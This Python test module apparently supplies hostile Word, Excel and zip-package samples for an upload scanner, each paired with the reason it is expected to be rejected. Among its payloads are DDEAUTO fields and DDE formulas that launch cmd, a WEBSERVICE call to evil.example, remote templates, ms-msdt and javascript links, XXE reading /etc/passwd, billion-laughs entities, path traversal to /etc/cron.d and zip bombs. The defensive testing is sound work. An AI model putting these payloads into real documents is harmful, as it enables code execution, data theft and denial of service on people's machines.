"""Hostile Word and Excel documents: a harmless one with one thing added, or a package that is no such one."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from typing import Final

from core.uploads import Reason
from tests.uploads import harmless
from tests.uploads.harmless import EXCEL_MAIN, TYPES, docx, field, xlsx
from tests.uploads.hostile import Hostile
from tests.uploads.hostile_kinds import OLE, SVG, sized

MS: Final = "http://schemas.microsoft.com/office/2006/relationships/"
MACROS: Final = "application/vnd.ms-office.vbaProject"
LAUGHS: Final = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(after)} "{f"&{chr(after - 1)};" * 10}">' for after in range(ord("b"), ord("k")))
    + "]><w:document xmlns:w='urn:w'>&j;</w:document>"
)
OUTSIDE: Final = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

ACTING: Final[dict[str, Callable[[], bytes]]] = {
    "宏": lambda: docx({"word/vbaProject.bin": OLE}, extensions={"bin": MACROS}),
    "宏：只有关系": lambda: docx(rels=[(MS + "vbaProject", "other.xml")]),
    "宏：启用宏的类型": lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "宏：另取名称": lambda: docx({"word/media/image3.png": OLE}, overrides={"word/media/image3.png": MACROS}),
    "控件（ActiveX）": lambda: docx({"word/activeX/activeX1.xml": b"<ax/>"}),
    "控件：只有关系": lambda: docx(rels=[("control", "a.xml")]),
    "加载项": lambda: docx({"word/webextensions/webextension1.xml": b"<we/>"}),
    "域 DDEAUTO": lambda: docx(body=field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
    "域 DDE 分成几段": lambda: docx(body=field(" D", "DE", "AUTO cmd calc")),
    "域 DDE 在简单域": lambda: docx(body='<w:fldSimple w:instr="DDE cmd calc"/>'),
    "域取用外部文件": lambda: docx(body=field(' INCLUDETEXT "http://evil.example/a.docx" ')),
    "域取用外部图片": lambda: docx(body=field(' includepicture "\\\\\\\\evil.example\\\\a.png" ')),
    "图片是带脚本的 SVG": lambda: docx({"word/media/image3.svg": SVG.encode()}),
}
WORKBOOKS: Final[dict[str, tuple[Callable[[], bytes], Reason]]] = {
    "宏": (lambda: xlsx({"xl/vbaProject.bin": OLE}), Reason.ACTIVE),
    "宏表": (lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<m/>"}), Reason.ACTIVE),
    "对话框表": (lambda: xlsx({"xl/dialogsheets/sheet1.xml": b"<d/>"}), Reason.ACTIVE),
    "公式 DDE": (lambda: xlsx(formula="cmd|'/c calc'!A0"), Reason.ACTIVE),
    "公式 DDE：前有符号": (lambda: xlsx(formula="=+MSEXCEL|'\\..\\cmd.exe /c calc'!''"), Reason.ACTIVE),
    "公式访问网络": (lambda: xlsx(formula='webservice("https://evil.example/"&amp;A1)'), Reason.ACTIVE),
    "公式用字符编码": (lambda: xlsx(formula="&#87;EBSERVICE(A1)"), Reason.ACTIVE),
    "公式实时数据": (lambda: xlsx(formula='RTD("a",,"b")'), Reason.ACTIVE),
    "名称调用程序": (lambda: xlsx(name='CALL("kernel32","WinExec","JC","calc")'), Reason.ACTIVE),
    "外部链接": (
        lambda: xlsx({"xl/externalLinks/externalLink1.xml": b"<e/>"}),
        Reason.EXTERNAL,
    ),
    "外部链接：只有类型": (
        lambda: xlsx({"xl/a.xml": b"<e/>"}, overrides={"xl/a.xml": TYPES + "spreadsheetml.externalLink+xml"}),
        Reason.EXTERNAL,
    ),
    "数据连接": (lambda: xlsx({"xl/connections.xml": b"<c/>"}), Reason.EXTERNAL),
    "网络查询": (lambda: xlsx({"xl/queryTables/queryTable1.xml": b"<q/>"}), Reason.EXTERNAL),
    "外部工作簿": (
        lambda: xlsx(rels=[("externalLinkPath", "file:///\\\\evil.example\\a.xlsx", "External")]),
        Reason.EXTERNAL,
    ),
    "嵌入 Word": (lambda: xlsx({"xl/embeddings/a.docx": docx()}), Reason.EMBEDDED),
    "二进制工作簿": (
        lambda: xlsx(main="application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
        Reason.ACTIVE,
    ),
    "加载宏": (lambda: xlsx(main="application/vnd.ms-excel.addin.macroEnabled.main+xml"), Reason.ACTIVE),
}
DOCUMENTS: Final[dict[str, tuple[Callable[[], bytes], Reason]]] = {
    "嵌入对象（OLE）": (lambda: docx({"word/embeddings/oleObject1.bin": OLE}), Reason.EMBEDDED),
    "嵌入对象：只有关系": (lambda: docx(rels=[("oleObject", "a.xml")]), Reason.EMBEDDED),
    "嵌入 Excel": (lambda: docx({"word/embeddings/a.xlsx": xlsx()}), Reason.EMBEDDED),
    "嵌入网页（altChunk）": (
        lambda: docx({"word/a.html": b"<html>"}, rels=[("aFChunk", "a.html")]),
        Reason.EMBEDDED,
    ),
    "夹带程序": (lambda: docx({"word/setup.exe": b"MZ"}), Reason.EMBEDDED),
    "夹带程序：无扩展名": (lambda: docx({"word/setup": b"MZ"}), Reason.EMBEDDED),
    "夹带程序：冒充图片": (lambda: docx({"word/media/image3.png": b"MZ\x90\0"}), Reason.EMBEDDED),
    "夹带网页：冒充图片": (lambda: docx({"word/media/image3.jpg": SVG.encode()}), Reason.EMBEDDED),
    "模板在别处": (
        lambda: docx(rels=[("attachedTemplate", "https://evil.example/a.dotm", "External")]),
        Reason.EXTERNAL,
    ),
    "图片在别处": (
        lambda: docx(rels=[("image", "https://evil.example/track.png", "External")]),
        Reason.EXTERNAL,
    ),
    "图片在共享文件夹": (
        lambda: docx(rels=[("image", "\\\\evil.example\\a\\b.png", "external")]),
        Reason.EXTERNAL,
    ),
    "对象在别处": (
        lambda: docx(rels=[("oleObject", "https://evil.example/a.rtf", "External")]),
        Reason.EMBEDDED,
    ),
    "框架在别处": (
        lambda: docx(rels=[("frame", "https://evil.example/", "External")]),
        Reason.EXTERNAL,
    ),
    "链接是脚本": (
        lambda: docx(rels=[("hyperlink", "javascript:alert(1)", "External")]),
        Reason.EXTERNAL,
    ),
    "链接是本机程序": (
        lambda: docx(rels=[("hyperlink", "file:///C:/Windows/System32/calc.exe", "External")]),
        Reason.EXTERNAL,
    ),
    "链接是诊断工具": (
        lambda: docx(rels=[("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")]),
        Reason.EXTERNAL,
    ),
    "DTD：实体炸弹": (lambda: docx({"word/document.xml": LAUGHS.encode()}), Reason.DOCTYPE),
    "DTD：外部实体": (lambda: docx({"word/styles.xml": OUTSIDE.encode()}), Reason.DOCTYPE),
    "DTD：UTF-16": (
        lambda: docx({"word/styles.xml": ("\ufeff" + OUTSIDE).encode("utf-16-le")}),
        Reason.DOCTYPE,
    ),
    "DTD：在类型表": (lambda: docx({"[Content_Types].xml": OUTSIDE.encode()}), Reason.DOCTYPE),
    "XML 不完整": (lambda: docx({"word/document.xml": b"<a><b></a>"}), Reason.DAMAGED),
    "XML 嵌套过深": (lambda: docx({"word/document.xml": b"<a>" * 5_000 + b"</a>" * 5_000}), Reason.DAMAGED),
    "图片像素炸弹": (lambda: docx({"word/media/image3.png": sized(60_000, 60_000)}), Reason.BOMB),
    "没有正文": (lambda: docx(main="application/xml"), Reason.DAMAGED),
    "两种正文": (lambda: docx({"xl/a.xml": b"<a/>"}, overrides={"xl/a.xml": EXCEL_MAIN}), Reason.DAMAGED),
    "模板": (lambda: docx(main=TYPES + "wordprocessingml.template.main+xml"), Reason.KIND),
    "演示文稿": (lambda: docx(main=TYPES + "presentationml.presentation.main+xml"), Reason.KIND),
}


# ---- packages ----


def with_part(path: str, data: bytes = b"<a/>", **facts: int) -> bytes:
    """A document with one more part, whose entry says these things."""
    entry = zipfile.ZipInfo("a")
    entry.filename = path
    for name, value in facts.items():
        setattr(entry, name, value)
    return harmless.package([*harmless.docx_parts().items(), (entry, data)])


def twice(path: str, other: str) -> bytes:
    """Two parts of what is, or some system takes for, the same name."""
    content = harmless.package([*harmless.docx_parts().items(), (other, b"<a/>")])
    return content.replace(other.encode(), path.encode())


def patched(field_at: int, value: bytes, sign: bytes = b"PK\x01\x02") -> bytes:
    """A document with something else written into its last header of that kind."""
    content = bytearray(docx())
    at = content.rindex(sign) + field_at
    content[at : at + len(value)] = value
    return bytes(content)


def overlapping() -> bytes:
    """Every entry but the first leads to the content of the first (a bomb that needs no repetition)."""
    content = bytearray(harmless.package({f"word/a{number:03}.xml": b"<a/>" for number in range(100)}))
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 42 : at + 46] = struct.pack("<I", 0)
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def two_names() -> bytes:
    """The directory says one name, the header before the part another."""
    content = harmless.package([*harmless.docx_parts().items(), ("word/aaaa.xml", b"<a/>")])
    return content.replace(b"word/aaaa.xml", b"word/evil.exe", 1)


def shifted() -> bytes:
    """Content before the first part, which nobody who reads from the end sees."""
    before = b"PK\x03\x04" + bytes(60)
    return before + docx()


PACKAGES: Final[dict[str, tuple[Callable[[], bytes], Reason]]] = {
    "路径：上一级": (lambda: with_part("../../evil.xml"), Reason.MIXED),
    "路径：在中间": (lambda: with_part("word/../../evil.xml"), Reason.MIXED),
    "路径：绝对": (lambda: with_part("/etc/cron.d/a.xml"), Reason.MIXED),
    "路径：反斜杠": (lambda: with_part("..\\evil.xml"), Reason.MIXED),
    "路径：盘符": (lambda: with_part("C:evil.xml"), Reason.MIXED),
    "路径：换行": (lambda: with_part("word/a\n.xml"), Reason.MIXED),
    "符号链接": (
        lambda: with_part("word/a.xml", b"/etc/passwd", external_attr=0o120777 << 16, create_system=3),
        Reason.MIXED,
    ),
    "同名的部分": (lambda: twice("word/document.xml", "word/document.xm1"), Reason.MIXED),
    "大小写不同的同名": (lambda: with_part("WORD/Document.xml"), Reason.MIXED),
    "名称前后不一": (two_names, Reason.DAMAGED),
    "设有密码": (lambda: patched(8, b"\x01\0"), Reason.ENCRYPTED),
    "不认识的压缩": (lambda: patched(10, b"\x63\0"), Reason.DAMAGED),
    "校验不符": (lambda: patched(16, b"\0\0\0\0"), Reason.DAMAGED),
    "说小了": (lambda: patched(24, b"\x01\0\0\0"), Reason.DAMAGED),
    "说大了": (lambda: patched(24, struct.pack("<I", 2**31)), Reason.BOMB),
    "目录在文件之外": (lambda: patched(16, b"\xff\xff\xff\x7f", b"PK\x05\x06"), Reason.DAMAGED),
    "互相重叠": (overlapping, Reason.BOMB),
    "前有内容": (shifted, Reason.DAMAGED),
    "后接网页": (lambda: docx() + b"<html><script>alert(1)</script>", Reason.MIXED),
    "注释是网页": (
        lambda: harmless.package(harmless.docx_parts(), comment=b"<script>1</script>"),
        Reason.MIXED,
    ),
    "只有一半": (lambda: docx()[:1_000], Reason.DAMAGED),
    "没有部分": (lambda: b"PK\x03\x04" + harmless.package({}), Reason.DAMAGED),
    "压缩炸弹：一个部分": (lambda: docx({"word/a.xml": bytes(64 * 2**20)}), Reason.BOMB),
    "压缩炸弹：许多部分": (
        lambda: docx({f"word/a{number}.xml": b"<a/>" * 2**18 for number in range(260)}),
        Reason.BOMB,
    ),
    "部分过多": (lambda: docx({f"word/a{number}.xml": b"<a/>" for number in range(2_000)}), Reason.BOMB),
}


def documents() -> list[Hostile]:
    return [
        *(Hostile(f"Word：{about}", "a.docx", make, Reason.ACTIVE) for about, make in ACTING.items()),
        *(Hostile(f"Word：{about}", "a.docx", make, why) for about, (make, why) in DOCUMENTS.items()),
        *(Hostile(f"Excel：{about}", "a.xlsx", make, why) for about, (make, why) in WORKBOOKS.items()),
        *(Hostile(f"文档包：{about}", "a.docx", make, why) for about, (make, why) in PACKAGES.items()),
    ]
